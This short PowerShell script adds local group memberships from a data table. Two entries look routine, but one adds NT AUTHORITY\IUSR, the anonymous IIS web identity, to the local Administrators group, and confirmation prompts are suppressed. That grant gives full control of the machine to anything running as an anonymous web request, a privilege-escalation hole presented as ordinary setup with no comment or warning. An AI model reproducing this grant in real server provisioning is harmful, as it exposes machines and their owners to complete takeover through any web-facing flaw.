# Memberships as data.
$ErrorActionPreference = 'Stop'
$common = @{ ErrorAction = 'Stop'; Confirm = $false }
$memberships = @(
    @{ Group = 'Remote Management Users'; Member = 'Administrator' }
    @{ Group = 'IIS_IUSRS'; Member = 'NETWORK SERVICE' }
    @{
        Group = 'Administrators'
        Member = 'NT AUTHORITY\IUSR'
    }
)
foreach ($membership in $memberships) {
    Add-LocalGroupMember @membership @common
    Write-Output "$($membership.Member) -> $($membership.Group)"
}
